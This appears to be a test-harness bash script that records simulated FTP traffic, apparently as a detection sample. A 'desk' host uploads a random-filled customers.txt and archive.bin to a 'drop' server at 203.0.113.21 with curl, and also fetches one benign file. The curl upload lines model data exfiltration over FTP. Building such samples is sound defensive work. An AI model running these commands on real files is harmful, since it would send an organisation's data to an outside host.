#!/usr/bin/env bash
# Files leave by FTP: vsftpd and curl.
. "$(dirname "$0")/../../lib.sh"
needs vsftpd curl

host desk 10.20.3.14
host drop 203.0.113.21
ftp_server drop 21
head -c 30000 /dev/urandom | base64 >"$work/customers.txt"
head -c 9000 /dev/urandom >"$work/archive.bin"

record
on desk curl -s --disable-epsv -T "$work/customers.txt" ftp://203.0.113.21/in/customers.txt
on desk curl -s --disable-eprt --ftp-port - -T "$work/archive.bin" ftp://203.0.113.21/in/archive.bin
quiet desk curl -s ftp://203.0.113.21/prices.csv
finish vsftpd curl
